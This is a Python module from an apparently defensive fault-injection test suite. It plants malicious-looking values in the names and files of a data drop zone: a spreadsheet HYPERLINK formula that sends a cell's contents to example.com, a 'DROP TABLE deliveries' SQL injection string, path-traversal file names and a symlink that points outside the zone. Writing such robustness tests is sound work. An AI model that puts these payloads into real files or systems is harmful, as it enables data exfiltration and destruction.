"""Room of names, of people, stores and files, that could be taken for something else."""

from simulator.faults.catalogue import Unfit, fault
from simulator.faults.contents import Content
from simulator.faults.meanings import FILES, NAMES
from simulator.faults.records import Record
from simulator.faults.targets import Target

_UNUSUAL = ("𠮷野家", "囡囡👩‍👧‍👦😀", "\u202bשלום\u202c\u200f")
_FORMULA = '=HYPERLINK("http://example.com/?"&A1,"点击领取")'
_INJECTION = "x'); DROP TABLE deliveries;--"
_WITH_STORES = ("pinkr__stores", "burgeon__retails")
_FILE_NAMES = {
    "path traversal": "{stem}\\..\\..\\..\\key{suffix}",
    "pattern": "{stem}[1]{suffix}",
    "quote": "{stem}'s{suffix}",
}
_OUTSIDE = "../../../../truth/settings.json"


@fault(24, "unusual-characters", "A", "accepted and unchanged", tuple(NAMES))
def unusual_characters(target: Target) -> None:
    """Emoji, four-byte characters and text from right to left stand in names."""
    if target.contract.encoding != "utf-8":
        raise Unfit("it is not UTF-8")
    content, path, named = _named(target)
    for text in target.rng.sample(_UNUSUAL, min(len(_UNUSUAL), len(named))):
        target.change(content, target.rng.choice(named), path, text)
    target.save(content)


@fault(
    47, "formula-in-a-name", "A M", "kept as it is, and made harmless in every export", tuple(NAMES)
)
def formula_in_a_name(target: Target) -> None:
    """A name is a formula for whoever opens it in a spreadsheet."""
    content, path, named = _named(target)
    target.change(content, target.rng.choice(named), path, _FORMULA)
    target.save(content)


@fault(
    48,
    "sql-in-a-name",
    "A M",
    "text is text; a file of such a name is rejected, and the others are read",
    _WITH_STORES,
)
def sql_in_a_name(target: Target) -> None:
    """The name of a store or of one more file is a statement of SQL."""
    if target.rng.random() < 0.5:
        target.reaction, target.changed["shape"] = "R M", "file name"
        target.add(f"{_INJECTION}{target.file.suffix}", target.file.read_bytes())
        return
    content, path, named = _named(target)
    target.changed["shape"] = "value"
    target.change(content, target.rng.choice(named), path, _INJECTION)
    target.save(content)


@fault(49, "dangerous-file-name", "R M", "that file is rejected, and the others are read", FILES)
def dangerous_file_name(target: Target) -> None:
    """One more file is a link out of the drop zone, or its name is a path or a pattern."""
    shape = target.rng.choice(["link", *_FILE_NAMES])
    target.changed["shape"] = shape
    if shape == "link":
        name = f"{target.file.stem} link{target.file.suffix}"
        link = target.add(name, b"")
        link.unlink()
        link.symlink_to(_OUTSIDE)
    else:
        name = _FILE_NAMES[shape].format(stem=target.file.stem, suffix=target.file.suffix)
        target.add(name, target.file.read_bytes())


def _named(target: Target) -> tuple[Content, str, list[Record]]:
    content, path = target.content(), NAMES[target.contract.name]
    named = [record for record in content.records if record.get(path)]
    if not named:
        raise Unfit("nothing has a name")
    return content, path, named
